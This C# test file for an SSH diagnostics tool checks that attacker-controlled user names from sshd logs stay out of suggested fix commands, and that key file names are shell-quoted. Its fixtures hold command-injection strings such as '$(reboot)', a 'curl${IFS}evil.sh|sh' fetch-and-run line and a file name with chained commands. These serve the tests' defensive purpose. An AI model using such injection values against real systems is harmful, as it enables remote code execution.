using SshDoctor.Audit;
using SshDoctor.Audit.Local;
using SshDoctor.Diagnosis;
using SshDoctor.Localization;
using SshDoctor.Reporting;
using SshDoctor.Tests.Audit;
using SshDoctor.Tests.Explain;

namespace SshDoctor.Tests.Reporting;

/// <summary>
/// issue 18: the two cases the attack pass printed. An attacker's user names in an sshd log stay in the evidence and
/// out of the fix commands; a key file named with shell syntax is quoted in the chmod a user would copy.
/// </summary>
public sealed class HostileNamesInFixesTests : IDisposable
{
    private readonly string _home = Shell.TempDirectory();

    public void Dispose() => Directory.Delete(_home, recursive: true);

    [Fact]
    public void An_attackers_user_names_are_evidence_never_part_of_a_command()
    {
        var result = ExplainHelper.OfText(
            "User $(reboot) not allowed because shell /usr/local/bin/nosuch does not exist\n"
            + "Invalid user x;curl${IFS}evil.sh|sh from 203.0.113.9 port 50022\n");
        var report = ExplainReportBuilder.Build(result, Language.English);

        var commands = report.Diagnoses.SelectMany(d => d.Fixes).Select(f => f.Command).OfType<string>().ToList();
        Assert.Contains("sudo chsh -s /bin/bash USER", commands);
        Assert.Contains("getent passwd USER", commands);
        Assert.All(commands, c => Assert.DoesNotContain("reboot", c, StringComparison.Ordinal));
        Assert.All(commands, c => Assert.DoesNotContain("curl", c, StringComparison.Ordinal));
        var evidence = report.Diagnoses.SelectMany(d => d.Evidence).Select(e => e.Text).ToList();
        Assert.Contains(evidence, e => e.Contains("$(reboot)", StringComparison.Ordinal));
        Assert.Contains(evidence, e => e.Contains("x;curl${IFS}evil.sh|sh", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("alice", "`restorecon -R -v ~alice/.ssh`")]
    [InlineData("DOMAIN\\alice", "`restorecon -R -v ~USER/.ssh`")]
    [InlineData("$(reboot)", "`restorecon -R -v ~USER/.ssh`")]
    public void A_command_inside_a_finding_text_is_filled_as_a_command(string user, string expected)
    {
        var finding = new Finding("selinux", FindingSeverity.Problem, "selinux.label-wrong", new Dictionary<string, string>
        {
            ["user"] = user,
            ["path"] = "/home/x/.ssh/authorized_keys",
            ["type"] = "user_home_t",
            ["context"] = "c",
            ["expected"] = "ssh_home_t",
        });

        Assert.EndsWith(expected, FindingTexts.Text(finding, Language.English), StringComparison.Ordinal);
        Assert.EndsWith(expected + " を実行してください", FindingTexts.Text(finding, Language.Japanese), StringComparison.Ordinal);
    }

    [Fact]
    public void A_key_file_named_with_shell_syntax_is_one_quoted_word_in_chmod()
    {
        Directory.CreateDirectory(Path.Combine(_home, ".ssh"));
        var key = Path.Combine(_home, ".ssh", "id_x;touch ~pwned;$(id)");
        var made = Shell.Run($"ssh-keygen -q -t ed25519 -N '' -C t -f '{key}' && chmod 644 '{key}'");
        Shell.Require(made.Code == 0, "ssh-keygen (openssh-client) is needed: " + made.Stderr);

        var result = AuditRunner.Run([new PrivateKeyPermissionsCheck()], LocalAudit.Context(_home, NativeUnix.GetUid()), EvidenceSource.Local);
        var report = AuditReportBuilder.Build("check-local", result, Language.English);

        var fix = report.Diagnoses.Single(d => d.Id == DiagnosisIds.KeyPermissionsTooOpen).Fixes.Select(f => f.Command).OfType<string>().First(c => c.StartsWith("chmod", StringComparison.Ordinal));
        Assert.Equal($"chmod go-rwx '{key}'", fix);
        Assert.Equal(["go-rwx", key], ShellQuoteTests.Words("/bin/sh", "printf '%s\\0' " + fix["chmod ".Length..]));
    }
}
